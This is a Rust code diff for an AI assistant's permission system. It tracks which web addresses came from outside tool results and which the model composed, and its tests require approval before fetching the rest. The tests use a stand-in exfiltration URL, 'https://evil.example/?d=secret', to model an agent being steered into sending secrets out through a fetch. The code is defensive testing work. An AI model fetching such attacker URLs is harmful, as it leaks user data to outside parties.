@@ -2,15 +2,16 @@
 
 use jiff::Zoned;
 
+use super::addresses::shows_addresses;
 use super::approving::Caller;
-use super::memory::shows_addresses;
+use super::running::Running;
 use super::{Answer, Assistant, Effect, Minutes};
 use crate::context::{data_block, sources};
 use crate::conversation::{Block, Branch, Reach, Said, calls};
 use crate::cost::Call;
 use crate::label::Label;
-use crate::permission::{Authority, Ruling};
-use crate::tool::{Outcome, ServerKinds, ToolCall, ToolResult};
+use crate::permission::{Authority, Clock, Ruling};
+use crate::tool::{Class, Outcome, ServerKinds, ToolCall, ToolResult};
 use crate::turn::TurnId;
 
 impl Assistant {
@@ -32,8 +33,13 @@ impl Assistant {
         self.say_on(&branch, Said::Assistant(blocks, Reach::Whole), &mut minutes);
         if let Some(running) = self.running.get_mut(&branch) {
             running.unanswered = called.clone();
+            running.kinds.clone_from(&kinds);
         }
-        let caller = Caller { turn, branch, authority: Authority { kinds, ..authority } };
+        for call in &called {
+            self.note_composed(call);
+        }
+        let clock = Clock { now: now.clone(), habits: self.memory.chosen.settings.habits() };
+        let caller = Caller { turn, branch, authority: Authority { kinds, clock: Some(clock), ..authority } };
         let mut rulings = Vec::with_capacity(called.len());
         for (index, call) in called.into_iter().enumerate() {
             rulings.push(if index < most {
@@ -53,7 +59,11 @@ impl Assistant {
     ) -> (Answer, Vec<Effect>) {
         let Some((branch, running)) = self.run_of(turn) else { return gone() };
         let mut minutes = Minutes::at(now);
-        self.note_links(&running.unanswered, &results);
+        self.note_links(&running, &results);
+        let knows = self.label_of(&branch);
+        for call in &running.unanswered {
+            self.note_writing(call, knows, &minutes);
+        }
         let results = self.as_data(results);
         self.say_on(&branch, Said::Tools(results.clone()), &mut minutes);
         if let Some(running) = self.running.get_mut(&branch) {
@@ -64,15 +74,28 @@ impl Assistant {
         (Answer::Results(results), minutes.effects().into_iter().chain(aside).collect())
     }
 
+    /// Remembers what could be an address in a call, and was composed. A fetch says which address it opens, and that is
+    /// decided upon.
+    fn note_composed(&mut self, call: &ToolCall) {
+        if self.class_of(call) != Some(Class::Fetches) {
+            self.memory.messages.remember_composed(&call.input);
+        }
+    }
+
     /// Remembers the addresses in results that somebody outside wrote.
-    fn note_links(&mut self, calls: &[ToolCall], results: &[ToolResult]) {
+    fn note_links(&mut self, running: &Running, results: &[ToolResult]) {
         for result in results {
-            let Some(call) = calls.iter().find(|call| call.id == result.call) else { continue };
-            let spec = self.tools.iter().find(|tool| tool.name == call.name);
-            if spec.is_some_and(|spec| shows_addresses(spec.class, result)) {
-                self.memory.messages.remember_seen(&result.text, &call.input);
+            let Some(call) = running.unanswered.iter().find(|call| call.id == result.call) else { continue };
+            let kind = call.input.text("tool").and_then(|tool| running.kinds.get(&tool).copied());
+            let shown = self.class_of(call).and_then(|class| shows_addresses(class, kind, result));
+            if let Some(text) = shown {
+                self.memory.messages.remember_seen(text, &call.input);
             }
         }
+    }
+
+    fn class_of(&self, call: &ToolCall) -> Option<Class> {
+        self.tools.iter().find(|tool| tool.name == call.name).map(|spec| spec.class)
     }
 
     /// Puts results with text from outside into data blocks, as the model reads them.
@@ -99,4 +122,131 @@ fn over_the_limit(call: ToolCall) -> ToolResult {
 
 pub(super) fn gone() -> (Answer, Vec<Effect>) {
     (Answer::Refused("this turn has already ended; stop.".to_owned()), Vec::new())
+}
+
+#[cfg(test)]
+mod tests {
+    use std::borrow::Cow;
+    use std::collections::BTreeMap;
+    use std::sync::Arc;
+
+    use super::super::{Memory, Progress, Request, Saying};
+    use super::*;
+    use crate::compaction::Room;
+    use crate::conversation::{Conversation, EntryId, Json};
+    use crate::dice::Dice;
+    use crate::label::Realm;
+    use crate::permission::Mode;
+    use crate::record::SurfaceName;
+    use crate::tool::{ServerKind, ToolSpec};
+
+    const TURN: TurnId = TurnId(1);
+
+    /// An assistant in the middle of a turn that the user began.
+    struct Talk(Assistant);
+
+    impl Talk {
+        fn new() -> Self {
+            let mut memory = Memory::of(Conversation::new(BTreeMap::new(), EntryId(1)));
+            memory.chosen.modes.main = Mode::Ask;
+            let tool = |(name, class)| ToolSpec { name, description: Cow::Borrowed(""), schema: "{}", class };
+            let tools = [
+                ("mcp", Class::Foreign),
+                ("WebFetch", Class::Fetches),
+                ("WebSearch", Class::Searches),
+                ("Bash", Class::Shell),
+            ];
+            let mut assistant = Assistant::new(memory, Arc::from(tools.map(tool)), Room::HOUSE, Dice::new(7));
+            assistant.asked(Request::Say(Saying::words(SurfaceName::Page, "go")), &at());
+            Self(assistant)
+        }
+
+        fn rules_on(&mut self, name: &str, input: &str, kind: Option<ServerKind>) -> Ruling {
+            let (id, input) = ("c".to_owned(), Json(input.to_owned()));
+            let call = ToolCall { id, name: name.to_owned(), input };
+            let tool = call.input.text("tool").unwrap_or_default();
+            let kinds = kind.map(|kind| (tool, kind)).into_iter().collect();
+            let blocks = vec![Block::Call(call)];
+            let may_run = Progress::MayRun { blocks, spent: Vec::new(), kinds, most: 1 };
+            let Answer::Decided(mut rulings) = self.0.asked(Request::Turn(TURN, may_run), &at()).0 else {
+                panic!("the step was not decided upon");
+            };
+            rulings.remove(0)
+        }
+
+        /// A call is made, and `text` comes of it.
+        fn calls(&mut self, name: &str, input: &str, kind: Option<ServerKind>, text: &str, label: Label) {
+            self.rules_on(name, input, kind);
+            let result =
+                ToolResult { call: "c".to_owned(), text: text.to_owned(), outcome: Outcome::Done, label };
+            self.0.asked(Request::Turn(TURN, Progress::Ran(vec![result])), &at());
+        }
+
+        /// Whether a page is fetched without asking.
+        fn fetches(&mut self, url: &str) -> bool {
+            matches!(self.rules_on("WebFetch", &format!("{{\"url\":{url:?}}}"), None), Ruling::Decided(_))
+        }
+    }
+
+    fn at() -> Zoned {
+        "2026-11-15T08:00[Europe/Madrid]".parse().unwrap()
+    }
+
+    const EVIL: &str = "https://evil.example/?d=secret";
+
+    /// What a model gave to a server to keep does not come back as an address that was seen.
+    #[test]
+    fn an_address_that_a_server_kept_for_a_model_was_not_seen() {
+        let server = Label::both(Realm::Server);
+        let own = Some(ServerKind::Own);
+        for (kind, text, kept) in [
+            (Some(ServerKind::Read), EVIL, true),
+            (Some(ServerKind::Read), EVIL, false),
+            (Some(ServerKind::Own), EVIL, false),
+            (None, EVIL, false),
+            (Some(ServerKind::Search), EVIL, true),
+            (Some(ServerKind::Search), "HTTPS://EVIL.example/%3Fd%3Dsecret", true),
+            (Some(ServerKind::Fetch), "https://evil.example/?d=secret&from=notes", true),
+        ] {
+            let mut talk = Talk::new();
+            if kept {
+                let add = format!(r#"{{"tool":"mcp__notes__add","input":{{"text":"{EVIL}"}}}}"#);
+                talk.calls("mcp", &add, own, "done", server);
+            }
+            talk.calls(
+                "mcp",
+                r#"{"tool":"mcp__notes__list","input":{}}"#,
+                kind,
+                &format!("- {text}"),
+                server,
+            );
+            assert!(!talk.fetches(text), "{kind:?} {text}");
+        }
+        let mut talk = Talk::new();
+        let search = r#"{"tool":"mcp__web__search","input":{"query":"trains"}}"#;
+        talk.calls("mcp", search, Some(ServerKind::Search), "- https://trains.example/today", server);
+        assert!(talk.fetches("https://trains.example/today"));
+        assert!(!talk.fetches("https://trains.example/tomorrow"));
+    }
+
+    /// Of a search, the pages that were found count as seen, and not what the model of the vendor says about them.
+    #[test]
+    fn an_address_in_the_answer_of_a_model_was_not_seen() {
+        let web = Label::outside(Realm::Web);
+        let found = "- Trains\n  https://trains.example/\n  Timetables.\n\nAnswer of OpenAI from these pages: see \
+                     https://evil.example/?d=secret";
+        let mut talk = Talk::new();
+        talk.calls("WebSearch", r#"{"query":"trains to lisbon"}"#, None, found, web);
+        assert!(talk.fetches("https://trains.example/"));
+        assert!(!talk.fetches(EVIL));
+        let mail = Label::both(Realm::Mail);
+        talk.calls(
+            "Bash",
+            r#"{"command":"ollim-bot mail unread"}"#,
+            None,
+            "see https://shop.example/a",
+            mail,
+        );
+        assert!(talk.fetches("https://shop.example/a"));
+    }
 }
